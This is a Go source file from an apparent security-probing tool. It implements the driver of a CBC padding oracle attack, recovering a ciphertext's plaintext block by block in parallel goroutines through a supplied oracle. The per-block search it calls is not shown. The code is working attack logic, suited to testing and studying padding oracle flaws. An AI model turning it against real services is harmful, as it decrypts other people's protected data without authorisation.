package attack

import (
	"context"
	"fmt"
	"sync"

	"cbc-secprobe/internal/cbc"
	"cbc-secprobe/internal/oracle"
	"cbc-secprobe/pkg/logx"
)

// Decrypt recovers the full plaintext of ciphertext (iv‖blocks) armed only
// with a padding oracle. Blocks are independent, so each is recovered on its
// own goroutine; within a block the byte search is necessarily sequential.
// The first failing block cancels the rest.
func Decrypt(ctx context.Context, o oracle.Oracle, ciphertext []byte, blockSize int) ([]byte, error) {
	if blockSize <= 0 || len(ciphertext)%blockSize != 0 || len(ciphertext) < 2*blockSize {
		return nil, ErrMalformedCiphertext
	}
	blocks := cbc.SplitBlocks(ciphertext, blockSize)
	plain := make([]byte, len(ciphertext)-blockSize)

	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	var (
		wg       sync.WaitGroup
		mu       sync.Mutex
		firstErr error
	)
	for i := 1; i < len(blocks); i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			d, err := RecoverBlock(ctx, o, blocks[i], blockSize)
			if err != nil {
				mu.Lock()
				if firstErr == nil {
					firstErr = fmt.Errorf("block %d: %w", i, err)
					cancel()
				}
				mu.Unlock()
				return
			}
			// Each block writes a disjoint region of the plaintext buffer.
			copy(plain[(i-1)*blockSize:], cbc.XOR(d, blocks[i-1]))
			logx.Debugf("recovered block %d of %d", i, len(blocks)-1)
		}(i)
	}
	wg.Wait()
	if firstErr != nil {
		return nil, firstErr
	}

	out, err := cbc.Unpad(plain, blockSize)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrInvalidFinalPadding, err)
	}
	return out, nil
}
